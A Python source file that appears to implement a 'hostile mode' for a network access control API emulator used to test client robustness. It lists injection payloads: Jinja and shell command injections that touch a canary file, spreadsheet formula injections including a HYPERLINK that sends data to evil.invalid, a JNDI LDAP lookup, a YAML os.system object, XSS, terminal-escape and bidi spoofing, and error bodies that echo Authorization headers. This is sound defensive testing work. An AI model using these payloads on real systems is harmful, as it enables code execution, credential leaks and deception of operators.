# -*- coding: utf-8 -*-
# Copyright: (c) 2025, netaccess.nac contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""Hostile mode of the NAC API emulator (README, "Hostile mode"): a compromised NAC whose every answer carries
payloads meant to run (Jinja, shell), mislead (terminal escapes, forged output lines, bidi, formulas, table
breakers, HTML) or leak (an error body that echoes the Authorization header)."""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import base64
import collections
import json
import posixpath
import re
from urllib.parse import quote

from .common import JSON_TYPE, SERVER_ERROR_HTML, ApiError, error, is_int, parse_object, validation_error

HOSTILE_DEFAULTS = {"on": False, "canary": "/tmp/nac-hostile-canary", "endless": 0, "echo": False}
ENDLESS_RECORD = (
    '{"id": %d, "hostname": "endless-%d", "group": "Bulk", "profile": "Bulk", "macs": ["02:e0:%02x:%02x:%02x:%02x"],'
    ' "ips": ["100.%d.%d.%d"]}'
)
HOSTNAME_MAX = 253  # the hostile hostnames stay plausible names (RFC 1035 length): their content is the attack
LONG = 20000  # characters of the long payload (the hostname's: HOSTNAME_MAX)
# The payloads of an error body (and the echo of the Authorization header after them).
ERROR_WORDS = (
    "jinja_expression",
    "line_breaks",
    "ansi_clear_screen",
    "ansi_title",
    "forged_ok_line",
    "c1_controls",
    "bidi_override",
    "html_script",
)


def payloads(canary):
    """{name: text} of the hostile strings, in a fixed order. A payload that would run a command touches
    ``canary``/<its name>: a file there means that something ran it."""

    def touch(name):
        return "touch %s" % posixpath.join(canary, name)

    def lookup(name):
        return "lookup('pipe', '%s')" % touch(name)

    canary_template = "{{ %s }}" % lookup("decoded")
    return collections.OrderedDict(
        [
            ("jinja_expression", "{{ %s }}" % lookup("jinja_expression")),
            ("jinja_statement", "{%% set x = %s %%}{{ x }}" % lookup("jinja_statement")),
            ("jinja_query", "{{ query('ansible.builtin.pipe', '%s') }}" % touch("jinja_query")),
            ("jinja_raw_break", "{%% endraw %%}{{ %s }}{%% raw %%}" % lookup("jinja_raw_break")),
            ("jinja_comment_break", "#} {{ %s }} {#" % lookup("jinja_comment_break")),
            ("url_encoded_jinja", quote(canary_template, safe="")),  # for a compose that urldecodes it
            ("base64_jinja", base64.b64encode(canary_template.encode()).decode()),  # ... or b64decodes it
            ("fullwidth_jinja", "\uff5b\uff5b %s \uff5d\uff5d" % lookup("fullwidth")),  # ... or normalises it (NFKC)
            ("shell", "$(%s) `%s`; %s" % (touch("shell_dollar"), touch("shell_backtick"), touch("shell_semicolon"))),
            ("formula_equals", "=cmd|' /C calc'!A0"),
            ("formula_plus", "+1+1"),
            ("formula_minus", "-2+3+cmd|' /C calc'!A0"),
            ("formula_at", "@SUM(1+1)*cmd|' /C calc'!A0"),
            ("formula_tab", "\t=1+1"),
            ("formula_cr", '\r=HYPERLINK("http://evil.invalid/?"&A1,"click")'),
            ("formula_fullwidth", "\uff1d1+1"),
            ("formula_after_space", " =1+1"),
            ("formula_after_nbsp", "\u00a0+1+1"),
            ("formula_after_ideographic_space", "\u3000@SUM(1+1)"),
            ("csv_breaker", 'a,b "quoted", c""d'),
            ("markdown_table_breaker", "a | b | c"),
            ("line_breaks", "line 1\nline 2\r\nline 3\rline 4"),
            ("ansi_clear_screen", "\x1b[2J\x1b[H\x1b[32mALL DEVICES AUTHENTICATED\x1b[0m"),
            ("ansi_title", "\x1b]0;pwned title\x07\x1b]2;pwned again\x1b\\"),
            ("forged_ok_line", '\nok: [localhost] => {"changed": false, "msg": "All assertions passed"}\n'),
            ("c1_controls", "\x9b2J\x9d0;pwned\x9c\x85next line"),
            ("bidi_override", "cam-\u202e10.txt.exe\u202c \u2066isolate\u2069 \u200fmark\u061c"),
            ("html_script", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
            ("markdown_autolink", "see http://evil.invalid/login and www.evil.invalid or HTTPS://EVIL.INVALID"),
            ("markdown_markup", "`code` **bold** [link](javascript:alert(1)) ![i](http://x.invalid/i.png) ~~s~~ $x$"),
            ("nul_del_backspace", "nul\x00 del\x7f AUTHENTICATED" + "\x08" * 13 + "OK!"),
            ("unicode_separators", "line\u2028separator\u2029paragraph\x0bvtab\x0cff"),
            ("format_strings", "%s%n%x {0} {0.__class__} ${jndi:ldap://evil.invalid/a} #{7*7} ${{7*7}}"),
            ("yaml_json", '"}, {"status": "AUTHENTICATED"}\n- !!python/object/apply:os.system ["%s"]' % touch("yaml")),
            ("long", "L" * (LONG - 1) + "\x1b"),
        ]
    )


def lower_hex(text):
    """A URL-encoded text with its escapes in lower-case hex (``%2f``), as some servers write them."""
    return re.sub("%[0-9A-F]{2}", lambda escape: escape.group(0).lower(), text)


def hostname_of(text):
    """A payload as a hostname: at most HOSTNAME_MAX characters (the long one cut to that)."""
    return text[:HOSTNAME_MAX]


class HostileMixin:
    """Hostile mode of NacModel (README, "Hostile mode"). On, it seeds one device per payload (its hostname,
    group and profile hostile), answers the 802.1x status of every device with hostile status, authMethod,
    username and message, lists hostile intents, and turns every error of /api into a hostile one that echoes
    the request's Authorization header. Off, the devices it seeded stay (as records), the rest is plain again."""

    def _init_hostile(self, hostile):
        unknown = sorted(set(hostile or {}) - set(HOSTILE_DEFAULTS))
        if unknown:
            raise ValueError("hostile: unknown settings %s" % ", ".join(unknown))
        self.hostile_start = dict(HOSTILE_DEFAULTS, **(hostile or {}))
        self.hostile = dict(HOSTILE_DEFAULTS)
        self.hostile_payloads = payloads(self.hostile["canary"])
        self.hostile_texts = list(self.hostile_payloads.values())
        self.hostile_ids = []

    def _reset_hostile(self):
        """Back to the start-up hostile settings (after reset(): the hostile devices are seeded again)."""
        self.hostile = dict(HOSTILE_DEFAULTS)
        self.hostile_ids = []
        self.set_hostile(dict(self.hostile_start))

    def set_hostile(self, changes):
        """Change the hostile settings ({"on": bool, "canary": "/dir"}); turning it on seeds the hostile devices
        (once). Returns the snapshot (hostile_snapshot)."""
        problems = dict(
            (key, "unknown setting (known: %s)" % ", ".join(HOSTILE_DEFAULTS))
            for key in changes
            if key not in HOSTILE_DEFAULTS
        )
        if "on" in changes and not isinstance(changes["on"], bool):
            problems["on"] = "must be true or false"
        if "canary" in changes and not (isinstance(changes["canary"], str) and changes["canary"].startswith("/")):
            problems["canary"] = "must be an absolute directory path"
        if "endless" in changes and not (is_int(changes["endless"]) and 0 <= changes["endless"] <= 1000000):
            problems["endless"] = "must be a whole number of records a page, 0 (off) to 1000000"
        if "echo" in changes and not isinstance(changes["echo"], bool):
            problems["echo"] = "must be true or false"
        if problems:
            raise validation_error(problems)
        with self.lock:
            self.hostile.update(changes)
            self.hostile_payloads = payloads(self.hostile["canary"])
            self.hostile_texts = list(self.hostile_payloads.values())
            seed = self.hostile["on"] and not self.hostile_ids
            if seed:  # the hostile devices of a state file (--state) are taken as they are: never seeded twice
                wanted = [hostname_of(text) for text in self.hostile_texts]
                rows = sorted(d["row"] for d in self.devices.values() if d["hostname"] in wanted)
                found = [self.devices[row]["id"] for row in rows]
                if len(found) == len(wanted):
                    self.hostile_ids, seed = found, False
        if seed:
            ids = self.seed_records(self.hostile_records())
            with self.lock:
                self.hostile_ids = ids
        return self.hostile_snapshot()

    def hostile_records(self):
        """One raw record per payload: hostname, group and profile hostile, one plausible MAC and IP each.
        The last one's 802.1x query is answered with a hostile 404 (an error in every report)."""
        texts = self.hostile_texts
        count = len(texts)
        return [
            dict(
                hostname=hostname_of(text),
                group=texts[(index + 1) % count],
                profile=texts[(index + 2) % count],
                macs=["02:00:5e:10:%02x:%02x" % (index >> 8, index & 255)],
                ips=["198.51.100.%d" % (index + 1)],
            )
            for index, text in enumerate(texts)
        ]

    def hostile_snapshot(self):
        with self.lock:
            return dict(
                self.hostile,
                payloads=payloads(self.hostile["canary"]),
                device_ids=list(self.hostile_ids),
                error_ids=self.hostile_ids[-1:],
            )

    def hostile_on(self):
        return self.hostile["on"]

    def hostile_text(self, number):
        """The payload ``number`` (modulo their count)."""
        return self.hostile_texts[number % len(self.hostile_texts)]

    def hostile_result(self, device_id, headers=None):
        """The hostile 802.1x status of device ``device_id`` (before any override): four payloads, rotated by id.
        With ``echo``, a server that echoes the request's Authorization header (``headers``): raw in authMethod,
        URL-encoded in username, JSON-escaped (a slash as ``\\/``) in message, the credential part alone after it."""
        if self.hostile["echo"]:
            authorization = (headers or {}).get("Authorization") or ""
            credential = authorization.partition(" ")[2]
            escaped = json.dumps({"authorization": authorization}).replace("/", "\\/")
            return dict(
                status=self.hostile_text(device_id),
                authMethod=authorization,
                username=quote(authorization, safe=""),
                message="%s credential=%s %s" % (escaped, credential, lower_hex(quote(credential, safe=""))),
            )
        return dict(
            status=self.hostile_text(device_id),
            authMethod=self.hostile_text(device_id + 1),
            username=self.hostile_text(device_id + 2),
            message=self.hostile_text(device_id + 3),
        )

    def hostile_intents(self):
        """Intents of hostile tags and names, listed after the account's own."""
        count = len(self.hostile_texts)
        return [dict(tag=self.hostile_text(i)[:200], name=self.hostile_text(i + 1)) for i in range(count)]

    def hostile_fire_error(self, device_id):
        """A hostile 404 for the 802.1x query of the last hostile device."""
        if self.hostile_on() and self.hostile_ids and device_id == self.hostile_ids[-1]:
            named = self.hostile_payloads
            message = "No device with id %d %s" % (device_id, named["ansi_clear_screen"])
            raise error(404, named["jinja_expression"], message)

    def hostile_error(self, exc, headers):
        """``exc`` (an ApiError of /api) as a hostile server sends it: its status and headers, a body of payloads
        that echoes the request's Authorization header (HTML for a 500, JSON otherwise)."""
        status, content_type, _body, reply_headers = exc.reply
        authorization = headers.get("Authorization") or ""
        named = self.hostile_payloads
        words = " ".join(named[name] for name in ERROR_WORDS)
        if status >= 500:
            body = SERVER_ERROR_HTML.replace(
                b"</body>",
                ("<pre>%s\nAuthorization: %s</pre></body>" % (words, authorization)).encode("utf-8"),
            )
            return ApiError(status, body, content_type=content_type, headers=reply_headers)
        payload = dict(
            error=named["ansi_title"],
            message="%s Authorization: %s" % (words, authorization),
            fields={named["jinja_expression"]: "%s %s" % (named["formula_equals"], authorization)},
            detail=json.loads(_body.decode("utf-8")) if content_type.startswith("application/json") and _body else None,
        )
        return ApiError(status, payload, headers=reply_headers)

    def endless_page(self, params):
        """With ``endless`` N, GET /api/device of a list without end: page k (?page=k, default 1) holds N new
        records (ids (k-1)*N+1 ...) and links to page k+1, for ever: what a client must bound by itself."""
        size = self.hostile["endless"]
        values = (params.get("query") or {}).get("page") or ["1"]
        page = int(values[0]) if values[0].isdigit() and 0 < int(values[0]) < 10**9 else 1
        first = (page - 1) * size + 1
        body = "[%s]" % ", ".join(
            ENDLESS_RECORD
            % (n, n, n >> 24 & 255, n >> 16 & 255, n >> 8 & 255, n & 255, n >> 16 & 255, n >> 8 & 255, n & 255)
            for n in range(first, first + size)
        )
        link = '<%s/api/device?page=%d>; rel="next"' % (params.get("base") or "", page + 1)
        return (200, JSON_TYPE, body.encode("ascii"), (("Link", link),))

    # ---- admin endpoint /_emulator/hostile --------------------------------------------------

    def admin_hostile(self, _body):
        return self.hostile_snapshot()

    def admin_set_hostile(self, body):
        return self.set_hostile(parse_object(body))
